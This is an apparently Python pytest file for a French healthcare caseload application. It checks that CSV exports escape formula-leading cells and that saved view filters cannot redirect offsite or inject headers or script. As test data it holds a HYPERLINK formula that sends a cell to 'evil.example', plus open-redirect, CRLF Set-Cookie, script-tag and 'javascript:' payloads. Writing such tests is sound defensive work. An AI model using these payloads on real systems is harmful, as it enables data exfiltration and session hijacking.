"""What people write goes into files that a spreadsheet opens: no cell of theirs is a formula, ends its cell, or leads elsewhere."""

import csv
import io
from urllib.parse import urlsplit

import pytest

from maillage.access.access import Access
from maillage.access.platform import Platform
from maillage.services.coordination.tests.test_coordination_tasks import LISE, territory
from maillage.ui.sheets import sheet
from tests.support.attacked import whole_application
from tests.support.pages import client_of
from tests.support.people import SEED, care_team

__all__ = ["territory"]
FORMULA = 'HYPERLINK("https://evil.example/?"&A1;"Ouvrir")'
BEFORE = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u00a0=", "\ufeff=", "\u200b=", "＝", "＋", "－", "＠")


@pytest.mark.parametrize("before", BEFORE)
def test_no_cell_is_a_formula(before: str) -> None:
    ((cell, other),) = csv.reader(
        io.StringIO(sheet([(before + FORMULA, "ESSAI;Anne\nMarie")]).removeprefix("\ufeff")), delimiter=";"
    )
    assert cell.startswith("'")
    assert cell.endswith(FORMULA)
    assert other == "ESSAI;Anne\nMarie"


async def test_a_name_is_no_formula_in_the_file_of_a_caseload(territory: None, access: Access, platform: Platform) -> None:
    async with access.act(SEED) as ctx:
        await ctx.records.write(
            {"resourceType": "Patient", "id": "eve", "name": [{"family": f"={FORMULA}"}], "address": [{"city": f"@{FORMULA}"}]},
            care_team("eve", "Organization/dac"),
        )
    async with await client_of(whole_application(platform), access, LISE) as client:
        text = (await client.get("/file-active.csv")).text
    cells = [cell for line in csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";") for cell in line]
    named = [cell for cell in cells if "HYPERLINK" in cell.upper()]
    assert named
    assert all(cell.startswith("'") for cell in named), named


@pytest.mark.parametrize(
    "kept",
    [
        "#",
        "https://evil.example/",
        "//evil.example",
        "\r\nSet-Cookie: a=b",
        'vue=&x="><script>',
        "javascript:alert(1)",
        "vue=retard#x",
    ],
)
async def test_a_view_that_is_kept_leads_to_the_caseload_and_ends(
    territory: None, access: Access, platform: Platform, kept: str
) -> None:
    """It is read back from a form, stands in an address, and the page opens on it."""
    async with await client_of(whole_application(platform), access, LISE) as client:
        sent = await client.post("/file-active/vues", data={"nom_vue": "Piège", "filtres": kept, "ouvre": "1"})
        assert sent.status_code == 303
        address, hops = "/file-active", 0
        while (answer := await client.get(address)).status_code == 303 and hops < 5:
            address, hops = answer.headers["location"], hops + 1
            assert not urlsplit(address).netloc
            assert urlsplit(address).path == "/file-active"
            assert "a=b" not in answer.headers.get("set-cookie", "")
            address = address.partition("#")[0]  # as a browser asks
        assert (answer.status_code, "<script>" in answer.text, 'href="javascript:' in answer.text) == (200, False, False)
